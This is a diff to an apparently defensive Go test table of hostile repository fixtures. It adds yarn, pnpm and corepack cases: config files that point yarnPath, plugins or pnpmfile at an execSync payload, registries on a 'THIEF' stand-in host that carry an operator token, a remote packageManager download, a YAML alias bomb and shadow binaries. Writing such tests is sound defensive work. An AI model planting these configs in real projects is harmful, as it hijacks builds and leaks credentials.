@@ -52,9 +52,17 @@ var hostile = map[string]struct {
 	"npm, an address": {files: map[string]string{
 		".npmrc": "registry=THIEF/${OPERATOR_TOKEN}/\n@leaf:registry=THIEF/${OPERATOR_TOKEN}/\n//ADDRESS/${OPERATOR_TOKEN}/:_authToken=x\n", "package.json": "{}",
 	}},
-	"npm, node": {files: map[string]string{
-		"evil.js": "require('child_process').execSync('MARK')", "package.json": "{}", ".node-version": "evil", ".nvmrc": "evil",
-	}, env: []string{"NODE_OPTIONS=--require ./evil.js"}},
+	"npm, node, and what yarn, pnpm and corepack read": {files: map[string]string{
+		"evil.js": "require('child_process').execSync('MARK')", ".node-version": "evil", ".nvmrc": "evil",
+		".yarnrc":       "yarn-path \"./evil.js\"\nregistry \"THIEF/${OPERATOR_TOKEN}/\"\n",
+		".yarnrc.yml":   "yarnPath: ./evil.js\nplugins:\n  - ./evil.js\nnpmRegistryServer: \"THIEF/${OPERATOR_TOKEN}/\"\nnpmAuthToken: \"${OPERATOR_TOKEN}\"\nunsafeHttpWhitelist: [\"*\"]\n",
+		".pnpmfile.cjs": "require('child_process').execSync('MARK')", "pnpm-workspace.yaml": "packages: ['.']\npnpmfile: ./evil.js\nconfigDependencies:\n  evil: THIEF/evil.tgz\n",
+		"package.json":        "{\"name\":\"x\",\"packageManager\":\"yarn@THIEF/evil.tgz\",\"devEngines\":{\"packageManager\":{\"name\":\"pnpm\",\"onFail\":\"download\"}}}",
+		".yarn/releases/y.js": "require('child_process').execSync('MARK')", ".corepack.env": "COREPACK_NPM_REGISTRY=THIEF\nNODE_OPTIONS=--require ./evil.js\n",
+		"yarn.lock":      "\"evil@THIEF/evil.tgz\":\n  version \"1.0.0\"\n  resolved \"THIEF/${OPERATOR_TOKEN}\"\n",
+		"pnpm-lock.yaml": "lockfileVersion: '9.0'\na: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: [*b, *b, *b]\n", ".pnp.cjs": "require('child_process').execSync('MARK')",
+		"bin/yarn": "#!/bin/sh\nMARK\n", "bin/pnpm": "#!/bin/sh\nMARK\n", "bin/corepack": "#!/bin/sh\nMARK\n",
+	}, env: []string{"NODE_OPTIONS=--require ./evil.js", "YARN_RC_FILENAME=.yarnrc.yml"}},
 	"go, a toolchain": {files: map[string]string{
 		"go.mod": "module x\n\ngo 1.99.0\n\ntoolchain go1.99.9\n", "go.work": "go 1.99.0\n\nuse .\n",
 		"go.env": "GOFLAGS=-toolexec=./evil.sh\nGOTOOLCHAIN=go1.99.9\n", "evil.sh": "#!/bin/sh\nMARK\n", "off": "GOSUMDB=off\n",
@@ -74,6 +82,7 @@ var hostile = map[string]struct {
 	"programs of the same names": {files: map[string]string{
 		"cargo": "#!/bin/sh\nMARK\n", "npm": "#!/bin/sh\nMARK\n", "node": "#!/bin/sh\nMARK\n", "pip": "#!/bin/sh\nMARK\n", "pip3": "#!/bin/sh\nMARK\n",
 		"python3": "#!/bin/sh\nMARK\n", "go": "#!/bin/sh\nMARK\n", "apt-get": "#!/bin/sh\nMARK\n", "apk": "#!/bin/sh\nMARK\n", "git": "#!/bin/sh\nMARK\n",
+		"yarn": "#!/bin/sh\nMARK\n", "pnpm": "#!/bin/sh\nMARK\n", "corepack": "#!/bin/sh\nMARK\n", "yarnpkg": "#!/bin/sh\nMARK\n",
 	}, env: []string{"PATH=.:PATH"}},
 }
 
